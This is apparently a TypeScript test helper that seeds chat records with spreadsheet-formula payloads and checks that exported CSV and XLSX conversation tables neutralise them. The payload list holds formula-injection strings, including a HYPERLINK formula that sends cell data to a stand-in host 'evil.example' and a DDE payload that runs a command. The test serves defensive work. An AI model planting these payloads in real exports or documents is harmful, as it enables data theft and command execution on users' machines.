// Customer texts that a spreadsheet would treat as formulas, in exported tables.
import { type CellObject, read as readWorkbook } from '@e965/xlsx'
import { api } from '@switchboard/contract'
import type { Installation } from './installation.ts'

const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\r=', '\n=', '\r\n=']
const CALLS = ['1+1', 'HYPERLINK("https://evil.example/?"&A1,"x")', `cmd|'/C calc'!A0`, 'SUM(A1:A9)', '"",x']

export const FORMULAS = STARTS.flatMap((start) => CALLS.map((call) => start + call))

/** Puts each formula into a name, a question and an answer; returns the exported cells that start like a formula. */
export async function formulas(installation: Installation): Promise<{ cells: number; problems: string[] }> {
  const owner = await installation.newOwner()
  const { agentId, botId } = await installation.newWidget(owner)
  await installation.sql(
    `with chat as (
       insert into chats (account_id, agent_id, bot_id, external_id, display_name, last_message_time)
       select $1, $2, $3, gen_random_uuid()::text, text, now() from unnest($4::text[]) as t (text)
       returning id, display_name
     )
     insert into messages (account_id, chat_id, bot_id, message_type, question, answer, answered_by, seq, answered_at)
     select $1, id, $3, 'customer', display_name, display_name, 'ai', 1, now() from chat`,
    [owner.id, agentId, botId, FORMULAS],
  )
  const day = (offset: number) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10)
  const table = async (format: 'csv' | 'xlsx') => {
    const { url } = await owner.client.call(api.privacy.exportConversations, {
      params: { id: agentId },
      body: { start_date: day(-1), end_date: day(1), tz: 'UTC', format },
    })
    return Buffer.from(await (await fetch(new URL(url, installation.url))).arrayBuffer())
  }
  const cells = cellsOf((await table('csv')).toString('utf8')).filter((cell) =>
    FORMULAS.some((formula) => cell.includes(formula)),
  )
  const { Sheets } = readWorkbook(await table('xlsx'))
  const typed: CellObject[] = Object.values(Sheets).flatMap((sheet) => Object.values(sheet))
  const problems = [
    ...cells.filter((cell) => !cell.startsWith("'")),
    // In a workbook, each cell has a type.
    ...typed.filter((cell) => cell.f !== undefined).map(({ f }) => `a formula in the workbook: ${f}`),
  ]
  return { cells: cells.length + typed.filter(({ v }) => FORMULAS.includes(String(v))).length, problems }
}

/** Parses cells according to RFC 4180, where quoted cells may contain anything. */
const cellsOf = (csv: string) =>
  [...csv.matchAll(/"((?:[^"]|"")*)"|[^",\r\n]+/g)].map(([cell, quoted]) =>
    quoted === undefined ? cell : quoted.replaceAll('""', '"'),
  )
